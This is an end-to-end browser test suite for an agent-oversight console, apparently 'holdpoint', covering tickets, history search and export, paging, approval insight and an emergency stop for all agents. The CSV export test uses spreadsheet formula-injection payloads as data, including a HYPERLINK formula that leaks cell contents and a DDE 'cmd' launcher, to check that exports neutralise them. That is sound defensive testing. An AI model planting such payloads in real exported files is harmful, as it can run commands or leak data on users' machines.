import { readFile } from 'node:fs/promises'
import type { EventView, InstructionView } from '@holdpoint/shared'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Browser, launchBrowser } from '../harness/browser.ts'
import { openLine, pressKey, signIn } from '../harness/console-page.ts'
import { controlPlane } from '../harness/control-plane.ts'
import { moreThanOneAnswerHolds } from '../harness/long-record.ts'
import { freshKey, shown, startAgent } from '../harness/raw-agent.ts'
import { until } from '../harness/until.ts'

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser[Symbol.asyncDispose]())

describe('tickets', () => {
  it('[ES5] a question is answered in the form it asks for, and the agent gets it typed', async () => {
    await using cp = await controlPlane()
    const agent = await startAgent(await cp.agentSocket({ subject: 'booker' }))
    const schema = {
      type: 'object',
      properties: {
        seats: { type: 'integer', title: 'How many seats?', minimum: 1, maximum: 9 },
        window: { type: 'boolean', title: 'At the window' },
        meal: { type: 'string', enum: ['none', 'vegan'] },
      },
      required: ['seats'],
    }
    const asked = await agent.send('question.ask', { question: 'Which seats?', schema })
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    await page.getByRole('link', { name: /^Tickets/ }).click()
    await openLine(page.locator('.row', { hasText: 'Which seats?' }))
    await page.getByLabel('How many seats?').fill('2')
    await page.getByLabel('At the window').check()
    await page.getByLabel('meal').selectOption('vegan')
    await page.getByRole('button', { name: 'Answer' }).click()
    await page.locator('.outcome', { hasText: 'answered by ana' }).waitFor()
    const ticket = await agent.socket.must('ticket.get', { id: asked.ticket.id })
    expect(ticket.ticket.answer).toEqual({ seats: 2, window: true, meal: 'vegan' })
    expect(visit.faults).toEqual([])
  })

  it('[ES3] a ticket is taken, acknowledged, and resolved with advice', async () => {
    await using cp = await controlPlane()
    const agent = await startAgent(await cp.agentSocket({ subject: 'booker' }))
    const raised = await agent.send('escalation.raise', { reason: 'user_request', context: { sum: 900 } })
    const root = await cp.operatorSocket({ subject: 'root', role: 'admin' })
    await root.must('person.add', { key: freshKey(), id: 'bo', role: 'operator' })
    const today = new Date().toISOString().slice(0, 10)
    const schedules = {
      primary: {
        timeZone: 'UTC',
        rotations: [
          {
            name: 'days',
            participants: ['ana', 'bo'],
            shiftDays: 7,
            handOver: { time: '00:00' },
            startsOn: today,
          },
        ],
      },
    }
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    await page.getByRole('link', { name: /^Tickets/ }).click()
    // ES2: nobody is on call by the built-in policy; with a schedule, who is now and who comes next
    expect(await page.locator('.on-call').count()).toBe(0)
    await root.must('policy.activate', { key: freshKey(), policy: { version: 'v2', schedules }, reason: 'r' })
    await page.locator('.on-call', { hasText: /primary: you until .* then bo$/ }).waitFor()
    await openLine(page.locator('.row', { hasText: 'user request' }))
    await page.locator('.words', { hasText: '900' }).waitFor()
    await page.getByRole('button', { name: 'Acknowledge' }).click()
    await page.locator('.facts', { hasText: 'acknowledged since' }).waitFor()
    await page.getByLabel('Assign to').fill('nobody')
    await page.keyboard.press('Enter')
    await page.locator('.notice.bad', { hasText: 'nobody' }).waitFor()
    await page.getByLabel('Assign to').fill('bo')
    await page.keyboard.press('Enter')
    await page.locator('.facts', { hasText: 'with bo' }).waitFor()
    await page.getByRole('button', { name: 'Take it' }).click()
    await page.locator('.facts', { hasText: 'with ana' }).waitFor()
    await page.getByLabel('What came of it').fill('Half of it is fine')
    await page.getByRole('button', { name: 'With advice' }).click()
    await page.getByLabel('Action for the agent').fill('send_email')
    await page.getByLabel('Its arguments, as JSON').fill('{"sum": 450}')
    await page.getByRole('button', { name: 'Resolve' }).click()
    await page.locator('.outcome', { hasText: 'resolved by ana' }).waitFor()
    const { ticket } = await agent.socket.must('ticket.get', { id: raised.ticket.id })
    expect(ticket).toMatchObject({ status: 'resolved', action: { action: 'send_email', args: { sum: 450 } } })
    await page.getByRole('button', { name: 'Closed' }).click()
    await page.locator('.row', { hasText: 'resolved by ana' }).waitFor()
  })

  it('[ES5] [ES3] by keyboard: r goes to the words, Enter sends them, Escape leaves the field, in the queue and among the tickets', async () => {
    await using cp = await controlPlane()
    const agent = await startAgent(await cp.agentSocket({ subject: 'booker' }))
    const asked = await agent.send('question.ask', { question: 'Which hotel?', blocking: false })
    const raised = await agent.send('escalation.raise', {
      reason: 'user_request',
      context: {},
      blocking: false,
    })
    const ended = (id: string) =>
      until('it is over', async () => {
        const { ticket } = await agent.socket.must('ticket.get', { id })
        return ticket.status !== 'open' && ticket
      })
    await using visit = await browser.open()
    const { page } = visit
    const { keyboard } = page
    await signIn(page, cp)
    await page.locator('.row').nth(1).waitFor()
    await keyboard.press('j')
    const answer = page.getByRole('textbox', { name: 'Your answer' })
    await page.locator('.card .answer').waitFor()
    if ((await answer.count()) === 0) await keyboard.press('j')
    await answer.waitFor()
    // it is no approval, and says what it takes
    await keyboard.press('a')
    await page.getByText('Press r to write').waitFor()
    await pressKey(page, 'r')
    await answer.and(page.locator(':focus')).waitFor()
    // nothing is sent of nothing, and its letters are letters
    await keyboard.press('Enter')
    await keyboard.type('the one at ')
    await keyboard.press('Escape')
    expect(await answer.inputValue()).toBe('the one at ')
    expect(await answer.evaluate((field) => field === document.activeElement)).toBe(false)
    await pressKey(page, 'r')
    await keyboard.press('End')
    await keyboard.type('the rails')
    await keyboard.press('Enter')
    expect(await ended(asked.ticket.id)).toMatchObject({ answer: 'the one at the rails' })

    await keyboard.press('g')
    await keyboard.press('t')
    await page
      .getByRole('region', { name: 'All tickets' })
      .locator('.row', { hasText: 'user request' })
      .waitFor()
    await keyboard.press('j')
    await page.getByRole('form', { name: 'Resolve' }).waitFor()
    await pressKey(page, 'r')
    await page.getByRole('textbox', { name: 'What came of it' }).and(page.locator(':focus')).waitFor()
    await keyboard.type('called them')
    await keyboard.press('Enter')
    expect(await ended(raised.ticket.id)).toMatchObject({ status: 'resolved', resolution: 'called them' })
    expect(visit.faults).toEqual([])
  })
})

describe('history', () => {
  it('is searched, taken along, and each fact has an address', async () => {
    await using cp = await controlPlane()
    const agent = await startAgent(await cp.agentSocket({ subject: 'mailer' }))
    await agent.ask('send_email', { to: 'ana@example.org' })
    await startAgent(await cp.agentSocket({ subject: 'other' }))
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    await page.getByRole('link', { name: 'History' }).click()
    await page.locator('.events li', { hasText: 'other' }).waitFor()
    await page.getByLabel('Agent').fill('mailer')
    await page.getByLabel('Type').fill('approval.requested')
    await page.getByRole('button', { name: 'Search' }).click()
    await until('one fact', async () => (await page.locator('.events li').count()) === 1)
    // the same search again finds what came meanwhile
    await agent.ask('send_email', { to: 'bo@example.org' })
    await page.getByRole('button', { name: 'Search' }).click()
    await until('both facts', async () => (await page.locator('.events li').count()) === 2)
    await page.getByLabel('To', { exact: true }).fill('2020-01-01T00:00')
    await page.getByRole('button', { name: 'Search' }).click()
    await page.getByText('Nothing fits').waitFor()
    await page.getByLabel('To', { exact: true }).fill('')
    await page.getByRole('button', { name: 'Search' }).click()
    await until('both again', async () => (await page.locator('.events li').count()) === 2)
    const saving = page.waitForEvent('download')
    await page.getByRole('button', { name: 'JSON lines' }).click()
    const [line, next, rest] = (await readFile(await (await saving).path(), 'utf8')).split('\n')
    for (const one of [line, next])
      expect(JSON.parse(one ?? '')).toMatchObject({ type: 'approval.requested', agent: 'mailer' })
    expect(rest).toBe('')
    await page.locator('.event-time').first().click()
    await page.getByRole('heading', { name: 'approval.requested' }).waitFor()
    await page.locator('.json', { hasText: 'send_email' }).waitFor()
    expect(page.url()).toMatch(/#\/history\/\d+$/)
    expect(visit.faults).toEqual([])
  })

  it('keeps its search in the address: a reload, a link and the way back find it again, and what is no time in it counts for nothing', async () => {
    await using cp = await controlPlane()
    const agent = await startAgent(await cp.agentSocket({ subject: 'mailer' }))
    await agent.ask('send_email', { to: 'ana@example.org' }, { blocking: false })
    await startAgent(await cp.agentSocket({ subject: 'other' }))
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    await page.getByRole('link', { name: 'History' }).click()
    const search = async (type: string) => {
      await page.getByLabel('Type').fill(type)
      await page.getByRole('button', { name: 'Search' }).click()
    }
    await page.getByLabel('Agent').fill('mailer')
    await page.getByLabel('From').fill('2020-01-01T07:30')
    await search('agent.*')
    await search('approval.*')
    const facts = page.locator('.events li')
    const found = (type: string) =>
      until(type, async () => {
        const all = await facts.allTextContents()
        return all.length > 0 && all.every((text) => text.includes(type) && text.includes('mailer'))
      })
    await found('approval.')
    await page.reload()
    // also through the sign-in
    await page.getByRole('button', { name: 'Use a token' }).click()
    await page.getByLabel('Your token').fill(await cp.token({ subject: 'bo', role: 'approver' }))
    await page.getByRole('button', { name: 'Sign in' }).click()
    await found('approval.')
    expect(await page.getByLabel('Agent').inputValue()).toBe('mailer')
    expect(await page.getByLabel('From').inputValue()).toBe('2020-01-01T07:30')
    expect(await page.getByLabel('Type').inputValue()).toBe('approval.*')
    await page.goBack()
    await found('agent.')
    expect(await page.getByLabel('Type').inputValue()).toBe('agent.*')
    await page.evaluate(() => {
      location.hash = '#/history?agent=mailer&type=approval.requested&from=soon&to=&more=1'
    })
    await found('approval.requested')
    expect(await page.getByLabel('From').inputValue()).toBe('')
    // the first and the last moment that a browser knows, one of which this place's clock can't show
    await page.evaluate(() => {
      const last = encodeURIComponent('+275760-09-13T00:00:00Z')
      location.hash = `#/history?agent=mailer&type=agent.*&from=-271821-04-20T00:00:00Z&to=${last}`
    })
    await found('agent.')
    for (const field of ['From', 'To'])
      expect(await page.getByLabel(field, { exact: true }).inputValue()).toBe('')
    expect(visit.faults).toEqual([])
  })

  it('leads from a decision to its card, however it ended: the log itself holds no arguments', async () => {
    await using cp = await controlPlane()
    const agent = await startAgent(await cp.agentSocket({ subject: 'mailer' }))
    const { approval } = await agent.ask('send_email', { to: 'ana@example.org' }, { blocking: false })
    const raised = await agent.send('escalation.raise', { reason: 'user_request', context: { sum: 900 } })
    const bo = await cp.operatorSocket({ subject: 'bo', role: 'approver' })
    await bo.must('approval.deny', { key: freshKey(), ...shown(approval), reason: 'Not her' })
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    await page.getByRole('link', { name: 'History' }).click()
    const denied = page.locator('.events li', { hasText: 'approval.denied' })
    await denied.locator('a.event-words').click()
    await page.locator('.outcome', { hasText: /denied by bo at .*: “Not her”/ }).waitFor()
    await page.locator('.card', { hasText: 'ana@example.org' }).waitFor()
    await page.goBack()
    await denied.locator('.event-time').click()
    await page.getByRole('link', { name: `approval ${approval.id.slice(-8)}` }).click()
    await page.locator('.outcome', { hasText: 'denied by bo' }).waitFor()
    await page.goBack()
    await page.getByRole('link', { name: 'all history' }).click()
    await page.locator('.events a.event-words', { hasText: 'user_request' }).first().click()
    await page.locator('.card', { hasText: `ticket ${raised.ticket.id.slice(-8)}` }).waitFor()
    expect(visit.faults).toEqual([])
  })
})

describe('page by page', () => {
  it('older facts come once each, in order, and stay while new ones come above', async () => {
    await using cp = await controlPlane()
    const agent = await startAgent(await cp.agentSocket({ subject: 'reader' }))
    const read = async (path: string) => {
      const { action } = await agent.ask('read_file', { path })
      await agent.begin(action)
      await agent.report(action.id)
    }
    for (let at = 0; at < 40; at++) await read(`${at}.md`)
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    const numbers = async () => {
      const links = await page
        .locator('.event-time')
        .evaluateAll((all) => all.map((one) => one.getAttribute('href')))
      return links.map((href) => Number(href?.split('/').at(-1)))
    }
    const inOrder = (all: readonly number[]) => [...new Set(all)].toSorted((a, b) => b - a)
    const older = page.getByRole('button', { name: 'Older' })

    await page.getByRole('link', { name: 'History' }).click()
    await page.getByLabel('Agent').fill('reader')
    await page.getByRole('button', { name: 'Search' }).click()
    await until('the first page', async () => (await numbers()).length === 100)
    // pressed twice it is one page, not the same one twice
    await older.dblclick()
    await older.waitFor({ state: 'detached' })
    const all = await numbers()
    expect(all.length).toBeGreaterThan(100)
    expect(all).toEqual(inOrder(all))

    await page.goto(`${cp.url}/#/agents/reader`)
    await until('the first page', async () => (await numbers()).length === 60)
    await older.click()
    await until('the second page', async () => (await numbers()).length === 120)
    const before = await numbers()
    await read('one more.md')
    await until('the new one', async () => ((await numbers())[0] ?? 0) > (before[0] ?? 0))
    const after = await numbers()
    expect(after.slice(-before.length)).toEqual(before)
    expect(after).toEqual(inOrder(after))
    expect(visit.faults).toEqual([])
  })
})

describe('what is taken along', () => {
  it('is all that the search finds, the same as lines of JSON and as CSV, where no cell is a formula', async () => {
    await using cp = await controlPlane()
    const root = await cp.operatorSocket({ subject: 'root', role: 'admin' })
    await startAgent(await cp.agentSocket({ subject: 'mailer' }))
    await startAgent(await cp.agentSocket({ subject: 'other' }))
    const texts = [
      '=HYPERLINK("https://example.org/?"&A1,"open")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)*cmd',
      '\t=1+1',
      ' \r\n=1+1',
      '\uFF1D1+1',
      'plain, "quoted"\nand on two lines',
    ]
    const target = { agent: 'mailer' }
    for (const text of texts) await root.must('agent.inject', { key: freshKey(), target, text })
    await root.must('agent.inject', { key: freshKey(), target: { agent: 'other' }, text: 'not this one' })
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    await page.getByRole('link', { name: 'History' }).click()
    await page.getByLabel('Agent').fill('mailer')
    await page.getByLabel('Type').fill('instruction.queued')
    await page.getByRole('button', { name: 'Search' }).click()
    await until('the search', async () => (await page.locator('.events li').count()) === texts.length)
    const take = async (button: string) => {
      const saving = page.waitForEvent('download')
      await page.getByRole('button', { name: button }).click()
      const saved = await saving
      return { name: saved.suggestedFilename(), text: await readFile(await saved.path(), 'utf8') }
    }
    const lines = await take('JSON lines')
    expect(lines.name).toBe('holdpoint-history.jsonl')
    expect(lines.text.at(-1)).toBe('\n')
    const events = lines.text
      .trimEnd()
      .split('\n')
      .map((one) => JSON.parse(one) as EventView)
    expect(events.map(({ data }) => (data as { instruction: InstructionView }).instruction.text)).toEqual(
      texts.toReversed(),
    )
    const table = await take('CSV')
    expect(table.name).toBe('holdpoint-history.csv')
    const [head, ...rows] = csv(table.text)
    expect(head).toEqual(['seq', 'at', 'type', 'agent', 'by', 'words', 'digest', 'data', 'hash'])
    // the same facts, in the same order, none of them cut
    expect(
      rows.map(([seq, at, type, agent, by, , , data, hash]) => [
        Number(seq),
        at,
        type,
        agent,
        by,
        JSON.parse(data ?? ''),
        hash,
      ]),
    ).toEqual(
      events.map(({ seq, at, type, agent, by, data, hash }) => [seq, at, type, agent, by, data, hash]),
    )
    const words = rows.map((cells) => cells[5] ?? '').toReversed()
    expect(words.slice(0, -1)).toEqual(texts.slice(0, -1).map((text) => `'${text}`))
    expect(words.at(-1)).toBe(texts.at(-1))
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/)
    expect(visit.faults).toEqual([])
  })
})

/** RFC 4180, read back: lines end in CRLF, quoted cells may hold anything. */
function csv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted, bare = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted === undefined ? bare : quoted.replaceAll('""', '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

describe('insight', () => {
  it('shows load, time to decide, and how each rule is decided', async () => {
    await using cp = await controlPlane()
    const bo = await cp.operatorSocket({ subject: 'bo', role: 'approver' })
    for (const [at, name] of ['release', 'deny'].entries()) {
      const agent = await startAgent(await cp.agentSocket({ subject: `mailer-${at}` }))
      const { approval } = await agent.ask('send_email', { at })
      if (name === 'release') await bo.must('approval.approve', { key: freshKey(), ...shown(approval) })
      else await bo.must('approval.deny', { key: freshKey(), ...shown(approval), reason: 'no' })
    }
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    await page.getByRole('link', { name: 'Insight' }).click()
    await page.getByText('2 decisions by 1 person').waitFor()
    await page.getByRole('img', { name: /^bo: .*: 2$/ }).waitFor()
    await page
      .locator('.outcomes li', { hasText: 'catalogue:send_email' })
      .getByText('1 approved, 1 denied')
      .waitFor()
    expect(await page.getByRole('heading', { name: 'Candidates for automation' }).count()).toBe(0)

    // twenty in a row approved, each within a moment of being shown
    const { cursor } = await bo.must('sync', {})
    const caller = await startAgent(await cp.agentSocket({ subject: 'caller' }))
    for (let at = 0; at < 20; at++) {
      const { approval } = await caller.ask('api_call', { at })
      await bo.must('seen', { ids: [approval.id], cursor })
      await bo.must('approval.approve', { key: freshKey(), ...shown(approval) })
    }
    await page.getByRole('link', { name: /^Queue/ }).click()
    // more in ten minutes than anybody judges one by one
    await page.locator('.flood', { hasText: /^\d+ requests in ten minutes/ }).waitFor()
    await page.getByRole('link', { name: 'Insight' }).click()
    await page.getByText('bo decided 10 or more in ten minutes').waitFor()
    const candidates = page.locator('.panel', { hasText: 'Candidates for automation' })
    await candidates.getByText(/catalogue:api_call: 20 of 20 approved/).waitFor()
    const stamped = page.locator('.panel', { hasText: 'Rubber-stamping' })
    await stamped.getByText(/catalogue:api_call: 20 of 20 approved within 2 s/).waitFor()
    expect(visit.faults).toEqual([])
  })
})

describe('what is laid over a page', () => {
  it('[AG7] stopping every agent is a word away from anywhere, for who may, and asks as its button does', async () => {
    await using cp = await controlPlane()
    await startAgent(await cp.agentSocket({ subject: 'mailer' }))
    const found = async (page: Page, role: 'operator' | 'viewer') => {
      await signIn(page, cp, { role })
      await page.keyboard.press('Control+k')
      await page.locator('input:focus').waitFor()
      await page.keyboard.type('stop')
    }
    await using onlooker = await browser.open()
    await found(onlooker.page, 'viewer')
    await onlooker.page.getByText('Nothing is called that').waitFor()
    await using visit = await browser.open()
    const { page } = visit
    await found(page, 'operator')
    await page.getByRole('option', { name: 'stop all' }).waitFor()
    await page.keyboard.press('Enter')
    const dialog = page.getByRole('dialog', { name: 'Stop every agent' })
    await dialog.getByLabel('Why').and(page.locator(':focus')).waitFor()
    await page.keyboard.type('a leak')
    await page.keyboard.press('Tab')
    await page.keyboard.type('stop all')
    await page.keyboard.press('Enter')
    await page.locator('.order', { hasText: 'every agent' }).waitFor()
    expect(visit.faults).toEqual([])
  })

  it('finds what waits and what was settled by the id that the card and the command line show, and says where there is nothing', async () => {
    await using cp = await controlPlane()
    const agent = await startAgent(await cp.agentSocket({ subject: 'mailer' }))
    const ask = async (action: string) =>
      (await agent.ask(action, { to: 'ana@example.org' }, { blocking: false })).approval.id as string
    const [settled, waits] = [await ask('send_email'), await ask('api_call')]
    await agent.socket.must('approval.cancel', { key: freshKey(), id: settled, reason: 'not any more' })
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    const goTo = async (text: string, name: string) => {
      await page.keyboard.press('Control+k')
      await page.locator('input:focus').waitFor()
      await page.keyboard.type(text)
      await page.getByRole('option', { name }).waitFor()
      expect(await page.getByRole('option').count()).toBe(1)
      await page.keyboard.press('Enter')
    }
    await goTo(waits.slice(-8), 'api_call by mailer')
    await page.getByRole('heading', { name: 'api_call' }).waitFor()
    expect(await page.locator('.ids').textContent()).toContain(waits.slice(-8))
    for (const id of [settled.slice(-8), settled.toUpperCase()]) {
      await goTo(id, `send_email by mailer withdrawn · ${settled.slice(-8)}`)
      await page.locator('.outcome', { hasText: 'not any more' }).waitFor()
      await goTo('tickets', 'tickets')
    }
    const { ticket } = await agent.send('escalation.raise', { reason: 'error', context: {} })
    const admin = await cp.operatorSocket({ subject: 'bo', role: 'admin' })
    await admin.must('ticket.resolve', { key: freshKey(), id: ticket.id, resolution: 'made it' })
    await goTo(ticket.id.slice(-8), `error of mailer resolved · ${ticket.id.slice(-8)}`)
    await page.locator('.outcome', { hasText: 'made it' }).waitFor()
    await page.keyboard.press('Control+k')
    await page.keyboard.type('fffffffe')
    await page.getByRole('status').getByText('Nothing is called that.').waitFor()
    expect(await page.getByRole('option').count()).toBe(0)
    await page.keyboard.press('Escape')
    expect(visit.faults).toEqual([])
  })

  it('finds by part of its id what was settled last, also where more is on record than one answer holds', async () => {
    await using cp = await controlPlane()
    const { approval, ticket } = await moreThanOneAnswerHolds(cp)
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    for (const id of [approval, ticket]) {
      await page.keyboard.press('Control+k')
      await page.getByRole('combobox', { name: 'Go to' }).fill(id.slice(-8))
      await page.getByRole('option', { name: id.slice(-8) }).waitFor()
      await page.keyboard.press('Escape')
      await page.locator('dialog').waitFor({ state: 'detached' })
    }
    expect(visit.faults).toEqual([])
  })

  it('is gone with the page that it was laid over', async () => {
    await using cp = await controlPlane()
    await using visit = await browser.open()
    const { page } = visit
    await signIn(page, cp)
    await page.getByRole('link', { name: 'History' }).click()
    await page.getByRole('heading', { name: 'History' }).waitFor()
    await page.getByRole('button', { name: 'Settings' }).click()
    await page.locator('dialog').waitFor()
    await page.goBack()
    await page.getByText('Nothing waits').waitFor()
    await page.locator('dialog').waitFor({ state: 'detached' })
    expect(visit.faults).toEqual([])
  })
})
